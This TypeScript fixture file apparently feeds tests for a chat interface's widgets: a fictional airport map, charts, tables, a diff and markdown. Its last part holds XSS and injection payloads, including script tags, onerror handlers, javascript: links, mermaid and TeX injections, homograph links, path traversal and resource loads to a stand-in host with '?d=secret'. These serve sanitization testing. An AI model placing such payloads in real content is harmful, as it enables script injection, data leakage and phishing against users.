// biome-ignore-all lint/security/noSecrets: nothing here is secret
import type { UiHint } from "capstan";
import type { CitedSource } from "../markdown/citation-chip.tsx";
import type { MapFeature, Position, WidgetHint } from "./widget-props.ts";

type Room = {
  readonly name: string;
  readonly x: number;
  readonly y: number;
  readonly width?: number;
  readonly look?: "room" | "open";
};

/** Creates a rectangle in meters, somewhere at sea. */
function createRoom({ name, x, y, width = 28, look = "room" }: Room): MapFeature {
  const at = (dx: number, dy: number): Position => [-30 + (x + dx) / 68_000, 45 + (y + dy) / 111_000];
  const corners = [at(0, 0), at(width, 0), at(width, 30), at(0, 30), at(0, 0)];
  return {
    type: "Feature",
    geometry: { type: "Polygon", coordinates: [corners] },
    properties: { name, look },
  };
}

const ground: MapFeature = { ...createRoom({ name: "", x: -10, y: -10 }), properties: { look: "ground" } };
const createOutline = (width: number): MapFeature => ({
  ...ground,
  geometry: {
    type: "Polygon",
    coordinates: [
      [
        [-30 - 10 / 68_000, 45 - 10 / 111_000],
        [-30 + width / 68_000, 45 - 10 / 111_000],
        [-30 + width / 68_000, 45 + 100 / 111_000],
        [-30 - 10 / 68_000, 45 + 100 / 111_000],
        [-30 - 10 / 68_000, 45 - 10 / 111_000],
      ],
    ],
  },
});
const gates = Array.from({ length: 8 }, (_, index) =>
  createRoom({ name: `Gate D${index + 10}`, x: index * 30, y: 60 }),
);
const shops = ["Café Anker", "Books", "Restroom", "Water", "Lounge", "Charging"].map((name, index) =>
  createRoom({ name, x: index * 40, y: 0, width: 38 }),
);
const at = (x: number, y: number): Position => [-30 + x / 68_000, 45 + y / 111_000];

export const map: WidgetHint = {
  kind: "map",
  props: {
    title: "Harbor International (fictional)",
    levels: [
      {
        id: "1",
        name: "Level 1",
        features: [
          createOutline(250),
          createRoom({ name: "Concourse D", x: 0, y: 30, width: 240, look: "open" }),
          ...gates,
          ...shops,
        ],
      },
      {
        id: "2",
        name: "Level 2",
        features: [
          createOutline(250),
          createRoom({ name: "Sky deck", x: 40, y: 30, width: 160, look: "open" }),
          createRoom({ name: "Restaurant", x: 60, y: 0, width: 80 }),
        ],
      },
    ],
    pins: [
      { label: "You", level: "1", at: at(8, 45), look: "here" },
      { label: "Gate D15", level: "1", at: at(164, 66), note: "Boarding at 14:20" },
      { label: "Restroom", level: "1", at: at(99, 18) },
    ],
    route: {
      points: [
        { level: "1", at: at(8, 45) },
        { level: "1", at: at(120, 45) },
        { level: "2", at: at(120, 45) },
        { level: "2", at: at(160, 45) },
        { level: "1", at: at(160, 45) },
        { level: "1", at: at(164, 66) },
      ],
      steps: [
        "Walk 110 m along Concourse D.",
        "Take the lift to Level 2.",
        "Take the lift down. Gate D15 is on your left. 3 minutes.",
      ],
    },
  },
};

const people = ["Ada", "Bo", "Cleo", "Dev", "Ezra", "Fay"];
const cats = ["Whiskers", "Mittens", "Shadow", "Tiger", "Luna"];

export const graph: WidgetHint = {
  kind: "graph",
  props: {
    title: "Pets",
    nodes: [
      ...people.map((label, index) => ({ id: `p${index}`, label, type: "human", size: 2 })),
      ...cats.map((label, index) => ({
        id: `c${index}`,
        label,
        type: "cat",
        ...(index < 3 && { color: "#0000ff" }),
      })),
      { id: "town", label: "Oslo", type: "town", size: 4 },
    ],
    edges: [
      ...people.map((_, index) => ({ from: `p${index}`, to: "town" })),
      ...cats.map((_, index) => ({ from: `p${index}`, to: `c${index}` })),
      { from: "p0", to: "p1" },
      { from: "p2", to: "p3" },
    ],
    flash: ["c0", "c1", "c2"],
  },
};

const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug"];

export const chart: WidgetHint = {
  kind: "chart",
  props: {
    title: "Waiting time at the checkpoint",
    type: "area",
    x: { type: "number", label: "Hour", values: Array.from({ length: 24 }, (_, hour) => hour) },
    unit: "min",
    series: [
      {
        label: "Today",
        values: Array.from({ length: 24 }, (_, hour) => Math.round(14 + 11 * Math.sin(hour / 3.2))),
      },
      {
        label: "Usual",
        values: Array.from({ length: 24 }, (_, hour) =>
          hour === 4 ? null : Math.round(11 + 7 * Math.sin(hour / 3.4)),
        ),
      },
    ],
  },
};

export const bars: WidgetHint = {
  kind: "chart",
  props: {
    title: "Passengers",
    type: "bar",
    x: { label: "Month", values: months },
    series: [
      { label: "Arrivals", values: months.map((_, index) => 42_000 + ((index * 7919) % 23_000)) },
      { label: "Departures", values: months.map((_, index) => 39_000 + ((index * 6101) % 26_000)) },
    ],
  },
};

export const table: WidgetHint = {
  kind: "table",
  props: {
    title: "Departures",
    columns: [
      { key: "flight", label: "Flight" },
      { key: "to", label: "To" },
      { key: "gate", label: "Gate" },
      { key: "minutes", label: "Minutes late" },
      { key: "note", label: "Note" },
    ],
    rows: Array.from({ length: 5000 }, (_, index) => ({
      flight: `HA ${100 + index}`,
      to: ["Oslo", "Lisbon", "Reykjavík", "Genève"][index % 4] ?? "",
      gate: `D${10 + (index % 8)}`,
      minutes: (index * 37) % 90,
      note: index % 9 === 0 ? "Gate changed, please look at the boards" : null,
    })),
  },
};

export const diff: WidgetHint = {
  kind: "diff",
  props: {
    path: "src/example.py",
    diff: `--- a/src/example.py
+++ b/src/example.py
@@ -1,6 +1,8 @@ def greet
 import sys
 
-def greet(name):
-    print("Hello " + name)
+def greet(name: str) -> None:
+    """Says hello to somebody by name."""
+    print(f"Hello {name}")
+
 
 greet(sys.argv[1])
@@ -40,3 +42,3 @@ def leave
 def leave():
-    pass
+    sys.exit(0)
 # end
`,
  },
};

export const sources: WidgetHint = {
  kind: "sources",
  props: {
    title: "Passages found",
    sources: [
      {
        n: 1,
        title: "Budget 2026",
        place: "May, page 2",
        url: "https://mail.example/m1",
        text: "After a long meeting the board agreed. The budget is 7 million, of which 2 are for travel. Nothing else was decided.",
        cited: ["The budget is 7 million"],
      },
      { n: 2, title: "Re: Budget 2026", place: "May", text: "Travel is cut by half." },
      {
        n: 3,
        title: "Handbook",
        text: `## Travel\n\nBook with \`trips\`, **two weeks** ahead. ${"See the [rules](https://rules.example). ".repeat(140)}`,
        cited: ["Book with `trips`, **two weeks** ahead."],
      },
    ],
  },
};

export const citations: readonly CitedSource[] = [
  {
    n: 1,
    title: "Budget 2026",
    url: "https://mail.example/m1",
    excerpt: "The budget is 7 million, of which 2 are for travel.",
  },
  { n: 2, title: "Re: Budget 2026", excerpt: "Travel is cut by half." },
];

export const longText: string = `# What the board decided

The budget is **7 million** [1], and *travel* was ~~kept~~ cut by half [1, 2]. A claim without a source stays [7]. See [the minutes](https://mail.example/minutes) or run \`npm start\`.

## Next steps

1. Tell the teams
2. Change the plan
   - the first half
   - the second half
3. Done

- [x] Read the mails
- [ ] Answer them

> Travel is back, said nobody.

| Month | Budget | Spent |
| :-- | --: | --: |
| May | 7,000 | 6,210 |
| June | 7,000 | 5,480 |

\`\`\`ts
// Sums what was spent.
export function total(rows: readonly { spent: number }[]): number {
  return rows.reduce((sum, { spent }) => sum + spent, 0);
}
\`\`\`
`;

const away = "https://evil.invalid/?d=secret";

export const hostileText: string = `<script>document.title="owned"</script>
<img src="${away}" onerror="document.title='owned'">
<svg onload="document.title='owned'"><image href="${away}"/></svg>

![x](${away}) [a](javascript:document.title='owned') [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>1</script>) [d](vbscript:x)

![ref][r] <style>@import "${away}"</style> <iframe srcdoc="<script>1</script>"></iframe> <base href="${away}"> <meta http-equiv="refresh" content="0;${away}">

[r]: ${away} "title"

[https://bank.example](https://evil.invalid/x) https://bank.example@evil.invalid/ https://bаnk.example/

\`\`\`html
<script src="${away}"></script> \u202e reversed
\`\`\`
`;

const payload = `<img src="${away}" onerror="document.title='owned'">`;

/** Hints with a payload in every text field. */
export const hostileHint: readonly UiHint[] = [
  { kind: payload, props: { [payload]: payload } },
  { kind: "__proto__", props: {} },
  {
    kind: "map",
    props: {
      title: payload,
      levels: [
        {
          id: payload,
          name: payload,
          features: [
            {
              type: "Feature",
              geometry: { type: "Point", coordinates: [0, 0] },
              properties: { name: payload },
            },
          ],
        },
      ],
      pins: [{ label: payload, level: payload, at: [0, 0], note: payload }],
      route: { points: [], steps: [payload] },
    },
  },
  {
    kind: "graph",
    props: {
      title: payload,
      nodes: [{ id: payload, label: payload, type: payload }],
      edges: [{ from: payload, to: payload, label: payload }],
    },
  },
  {
    kind: "sources",
    props: {
      title: payload,
      sources: [
        {
          title: payload,
          place: payload,
          url: "javascript:document.title='owned'",
          text: payload,
          cited: [payload],
        },
      ],
    },
  },
  {
    kind: "command",
    props: { command: payload, folder: payload, allows: [{ what: payload, answer: payload }] },
  },
  {
    kind: "email",
    props: { to: [payload], cc: [payload], subject: payload, body: payload, attachments: [payload] },
  },
  { kind: "diff", props: { diff: `--- ${payload}\n+++ b${payload}\n@@ -1 +1 @@\n-1\n+2\n` } },
  { kind: "diff", props: { path: payload, diff: `@@ -1 +1 @@ ${payload}\n-${payload}\n+${payload}\n` } },
  {
    kind: "table",
    props: { title: payload, columns: [{ key: payload, label: payload }], rows: [{ [payload]: payload }] },
  },
  {
    kind: "chart",
    props: {
      title: payload,
      type: "bar",
      x: { label: payload, values: [payload] },
      unit: payload.slice(0, 29),
      series: [{ label: payload, values: [1] }],
    },
  },
  {
    kind: "chart",
    props: { type: "line", x: { values: [1] }, series: [{ label: "a", values: [1], color: `url(${away})` }] },
  },
];

/** A white PNG of 8 × 8 pixels. */
const pngData =
  "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAIAQAAAADsdIMmAAAADklEQVR4nGP4/x8EGRgAIPwF+5DqT+oAAAAASUVORK5CYII=";

export const richText: string = `Inline $x^2 + \\frac{1}{2}$ and \\(a \\le b\\), but tickets cost $5 or $10.

$$
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
$$

\`\`\`mermaid
flowchart LR
  A[Question] --> B{Tools?}
  B -->|yes| C[Call]
  B -->|no| D[Answer]
  C --> B
\`\`\`

![a white square](data:image/png;base64,${pngData}) ![a remote one](https://pictures.example/a.png)
`;

const nested = "{".repeat(900);

/** Maths, diagrams and images that want to run, load or never end. */
export const hostileRichText: string = `$\\href{javascript:window.__canary=1}{x}$ $\\includegraphics{https://evil.example/a.png}$ $\\url{https://evil.example}$

$\\def\\a{\\a\\a}\\a$ $\\htmlStyle{background:url(https://evil.example/b)}{x}$ $\\class{x}{y}$ ${"$".repeat(4000)}

$$${nested}$$

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(https://evil.example/c) }"}}%%
flowchart LR
  A["<img src=x onerror=window.__canary=1>"] --> B["<script>window.__canary=1</script>"]
  click A call alert(1)
  click B href "javascript:window.__canary=1"
\`\`\`

\`\`\`mermaid
flowchart LR
${"  A --> B\n".repeat(2000)}
\`\`\`

\`\`\`mermaid
this is no diagram <img src=x onerror=window.__canary=1>
\`\`\`

![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX2NhbmFyeT0xIi8+) ![page](data:text/html;base64,PGI+) ![other](/api/sessions/other/blobs/x) ![up](/api/sessions/../about)
`;
